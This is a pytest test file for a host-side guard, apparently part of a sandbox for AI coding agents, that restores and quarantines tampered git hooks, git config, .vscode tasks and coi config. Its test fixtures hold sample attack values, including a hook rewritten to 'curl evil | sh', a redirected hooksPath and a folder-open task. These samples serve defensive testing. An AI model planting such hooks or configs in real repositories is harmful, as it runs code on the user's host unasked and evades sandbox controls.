"""Protected paths on the host side: planning, record, verify and restore (no daemon needed)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from coi.config.loader import load_config
from coi.config.schema import DEFAULT_PROTECTED
from coi.errors import ConfigError
from coi.protection.guard import Guard
from coi.protection.paths import configured_paths, devices, expand, plan, summary

RELS = [".git/hooks", ".git/config", ".husky", ".vscode"]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "objects").mkdir()
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho honest\n")
    hook.chmod(0o755)
    (ws / "src.py").write_text("print(1)\n")
    return ws


@pytest.fixture
def guard(repo: Path, tmp_path: Path) -> Guard:
    g = Guard("coi-test-1", home=tmp_path / "home")
    g.record(plan(repo, RELS))
    return g


def messages() -> tuple[list[str], object]:
    out: list[str] = []
    return out, out.append


def test_plan_mounts_git_dir_and_existing_paths(repo: Path) -> None:
    p = plan(repo, RELS)
    assert [(e.rel, e.kind) for e in p.paths] == [
        (".git/hooks", "dir"),
        (".git/config", "file"),
        (".husky", "absent"),
        (".vscode", "absent"),
    ]
    devs = devices(p, "/workspace")
    assert devs["protect-git-dir"] == {
        "type": "disk",
        "source": str(repo / ".git"),
        "path": "/workspace/.git",
    }
    assert devs["protect-git-hooks"]["readonly"] == "true"
    assert devs["protect-git-config"]["path"] == "/workspace/.git/config"
    assert len(devs) == 3  # absent paths cannot be mounted; the guard watches them


def test_plan_creates_missing_hooks_dir(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    plan(tmp_path, RELS)
    assert (tmp_path / ".git" / "hooks").is_dir()


def test_plan_worktree_protects_the_pointer_file(tmp_path: Path) -> None:
    (tmp_path / ".git").write_text("gitdir: /somewhere/.git/worktrees/x\n")
    p = plan(tmp_path, RELS)
    assert [e.rel for e in p.paths] == [".git", ".husky", ".vscode"]
    assert not p.git_dir_mount
    assert devices(p, "/workspace")["protect-git"]["readonly"] == "true"


def test_plan_without_git_watches_only(tmp_path: Path) -> None:
    p = plan(tmp_path, RELS)
    assert [e.kind for e in p.paths] == ["absent", "absent"]
    assert devices(p, "/workspace") == {}


def test_configured_paths_validation(tmp_path: Path) -> None:
    cfg = load_config(cwd=tmp_path, env={"HOME": str(tmp_path)}, files=[])
    assert configured_paths(cfg) == DEFAULT_PROTECTED
    cfg.set("security.additional_protected_paths", ["./Makefile", ".git/hooks"], "test")
    assert configured_paths(cfg) == [*DEFAULT_PROTECTED, "Makefile"]
    # coi's own workspace config stays protected when the list is replaced.
    cfg.set("security.protected_paths", [".git/hooks"], "test")
    assert configured_paths(cfg) == [".git/hooks", "Makefile", ".coi.toml", ".coi"]
    cfg.set("security.additional_protected_paths", ["../outside"], "test")
    with pytest.raises(ConfigError, match=r"security\.additional_protected_paths"):
        configured_paths(cfg)
    cfg.set("git.writable_hooks", True, "test")
    assert configured_paths(cfg) == []


def test_unchanged_and_touched_raise_nothing(repo: Path, guard: Guard) -> None:
    assert guard.enforce().changes == []
    os.utime(repo / ".git" / "hooks" / "pre-commit", (1, 1))
    report = guard.enforce()
    assert report.changes == [] and report.restored == []
    assert not guard.audit.path.exists()


def test_changed_hook_is_restored_and_kept_as_evidence(repo: Path, guard: Guard) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    (repo / ".git" / "hooks" / "post-checkout").write_text("evil\n")
    (repo / ".git" / "config").write_text("[core]\n\thooksPath = /workspace/evil\n")
    said, log = messages()
    report = guard.enforce(log)  # type: ignore[arg-type]
    assert {str(c) for c in report.changes} == {
        ".git/hooks/pre-commit (content changed)",
        ".git/hooks/post-checkout (created)",
        ".git/config (content changed)",
    }
    assert hook.read_text() == "#!/bin/sh\necho honest\n"
    assert hook.stat().st_mode & 0o777 == 0o755
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert "hooksPath" not in (repo / ".git" / "config").read_text()
    assert report.quarantine is not None
    evidence = report.quarantine / ".git/hooks/pre-commit"
    assert evidence.read_text() == "#!/bin/sh\ncurl evil | sh\n"
    assert "PROTECTED PATHS CHANGED" in said[0] and "Logged to audit" in said[0]
    line = guard.audit.path.read_text().splitlines()[0]
    assert '"level":"high"' in line and '"category":"protected_path"' in line
    event = json.loads(line)
    assert event["action"] == "restored" and event["container"] == "coi-test-1"
    # The restored state is the new baseline: the next sweep is quiet.
    assert guard.enforce().changes == []


def test_mode_change_is_restored(repo: Path, guard: Guard) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.chmod(0o777)
    assert [str(c) for c in guard.enforce().changes] == [
        ".git/hooks/pre-commit (permissions changed)"
    ]
    assert hook.stat().st_mode & 0o777 == 0o755


def test_symlinked_hooks_dir_never_writes_outside(repo: Path, guard: Guard, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("host file\n")
    hooks = repo / ".git" / "hooks"
    for f in hooks.iterdir():
        f.unlink()
    hooks.rmdir()
    hooks.symlink_to(outside)
    report = guard.enforce()
    assert report.restored == [".git/hooks"]
    assert not hooks.is_symlink() and (hooks / "pre-commit").is_file()
    assert sorted(p.name for p in outside.iterdir()) == ["keep"]
    assert (outside / "keep").read_text() == "host file\n"


def test_renamed_git_dir_is_moved_back(repo: Path, guard: Guard, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / ".git").rename(repo / "stolen")
    (repo / ".git").symlink_to(outside)
    report = guard.enforce()
    assert (repo / ".git" / "objects").is_dir() and not (repo / ".git").is_symlink()
    assert any(n.startswith(".git.coi-tampered-") for n in os.listdir(repo))
    assert ".git (replaced)" in [str(c) for c in report.changes]
    assert list(outside.iterdir()) == []


def test_created_absent_path_is_removed(repo: Path, guard: Guard) -> None:
    tasks = repo / ".vscode" / "tasks.json"
    tasks.parent.mkdir()
    tasks.write_text('{"runOn": "folderOpen"}')
    report = guard.enforce()
    assert [str(c) for c in report.changes] == [".vscode (created)", ".vscode/tasks.json (created)"]
    assert not (repo / ".vscode").exists()
    assert report.quarantine is not None
    assert (report.quarantine / ".vscode/tasks.json").read_text() == '{"runOn": "folderOpen"}'


def test_forget_and_missing_record(guard: Guard) -> None:
    guard.forget()
    assert not guard.exists()
    assert guard.enforce().changes == []


def test_a_record_forgotten_by_another_coi_during_the_check_is_no_error(
    guard: Guard, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CI: `coi clean` failed with FileNotFoundError on manifest.json, `coi run`'s own settle
    having verified and removed the same container's record between clean's look and its
    read. The other coi's removal is played at exactly that point."""
    other = Guard(guard.container, home=guard.home)
    seen = Guard.exists

    def then_forgotten(self: Guard) -> bool:
        found = seen(self)
        if self is guard:
            monkeypatch.setattr(Guard, "exists", seen)
            other.forget()
        return found

    monkeypatch.setattr(Guard, "exists", then_forgotten)
    assert guard.enforce().changes == []
    guard.forget()
    assert not guard.dir.exists()


# -- workspace config and the rest of git's host-side files ----------------------------------


@pytest.fixture
def full_repo(repo: Path) -> Path:
    """A repository with coi config, submodules (one a link), a worktree and git's extras."""
    (repo / ".coi.toml").write_text('[limits.memory]\nlimit = "1GiB"\n')
    (repo / ".coi").mkdir()
    (repo / ".coi" / "config.toml").write_text("")
    (repo / ".git" / "config.worktree").write_text("[core]\n")
    for mod in ("a", "b"):
        (repo / ".git" / "modules" / mod).mkdir(parents=True)
        (repo / ".git" / "modules" / mod / "config").write_text("[core]\n")
    (repo / ".git" / "modules" / "a" / "hooks").mkdir()
    (repo / ".git" / "modules" / "evil").symlink_to(repo / ".git" / "modules" / "a")
    (repo / ".git" / "worktrees" / "wt").mkdir(parents=True)
    (repo / ".git" / "worktrees" / "wt" / "commondir").write_text("../..\n")
    return repo


def test_patterns_match_real_directories_only(full_repo: Path) -> None:
    assert expand(full_repo, ".git/modules/*/config") == [
        ".git/modules/a/config",
        ".git/modules/b/config",
    ]  # not through the link "evil"
    # The leaf is kept when absent (watched for creation); b's hooks do not exist yet.
    assert expand(full_repo, ".git/modules/*/hooks") == [
        ".git/modules/a/hooks",
        ".git/modules/b/hooks",
    ]
    assert expand(full_repo, ".git/worktrees/*/config.worktree") == [
        ".git/worktrees/wt/config.worktree"
    ]
    assert expand(full_repo, ".nothing/*/x") == []
    assert expand(full_repo, ".husky") == [".husky"]


def test_default_plan_guards_coi_config_and_git_extras(full_repo: Path) -> None:
    p = plan(full_repo, DEFAULT_PROTECTED)
    kinds = {e.rel: e.kind for e in p.paths}
    assert kinds[".coi.toml"] == "file" and kinds[".coi"] == "dir"
    assert kinds[".git/config.worktree"] == "file"
    assert kinds[".git/info"] == "dir"  # made, so `attributes` cannot be created inside
    assert kinds[".git/modules/a/config"] == kinds[".git/modules/b/config"] == "file"
    assert kinds[".git/modules/b/hooks"] == "dir"  # made like .git/hooks
    assert kinds[".git/worktrees/wt/commondir"] == "file"
    assert kinds[".git/worktrees/wt/config.worktree"] == "absent"
    assert not any("evil" in rel for rel in kinds)
    devs = devices(p, "/workspace")
    for rel in (".coi.toml", ".coi", ".git/info", ".git/modules/b/hooks", ".git/config.worktree"):
        (dev,) = [d for d in devs.values() if d["path"] == f"/workspace/{rel}"]
        assert dev["readonly"] == "true" and dev["source"] == str(full_repo / rel)
    assert p.git_dir_mount
    assert summary(p).startswith("Protected paths (mounted read-only): .git/hooks, .git/config")


def test_absent_coi_config_is_watched(tmp_path: Path) -> None:
    p = plan(tmp_path, DEFAULT_PROTECTED)  # not a repository, no coi config
    assert [(e.rel, e.kind) for e in p.paths] == [
        (".husky", "absent"),
        (".vscode", "absent"),
        (".coi.toml", "absent"),
        (".coi", "absent"),
    ]
    assert devices(p, "/workspace") == {}


def test_agent_written_coi_config_is_undone(full_repo: Path, tmp_path: Path) -> None:
    (full_repo / ".coi.toml").unlink()
    g = Guard("coi-test-2", home=tmp_path / "home2")
    g.record(plan(full_repo, DEFAULT_PROTECTED))
    (full_repo / ".coi.toml").write_text('[network]\nmode = "open"\n')
    (full_repo / ".coi" / "config.toml").write_text('[tool]\nbinary = "/workspace/x"\n')
    (full_repo / ".git" / "info" / "attributes").write_text("* filter=evil\n")
    (full_repo / ".git" / "modules" / "a" / "hooks" / "post-checkout").write_text("evil\n")
    report = g.enforce()
    assert {str(c) for c in report.changes} == {
        ".coi.toml (created)",
        ".coi/config.toml (content changed)",
        ".git/info/attributes (created)",
        ".git/modules/a/hooks/post-checkout (created)",
    }
    assert not (full_repo / ".coi.toml").exists()
    assert (full_repo / ".coi" / "config.toml").read_text() == ""
    assert not (full_repo / ".git" / "info" / "attributes").exists()
    assert report.quarantine is not None
    assert "open" in (report.quarantine / ".coi.toml").read_text()
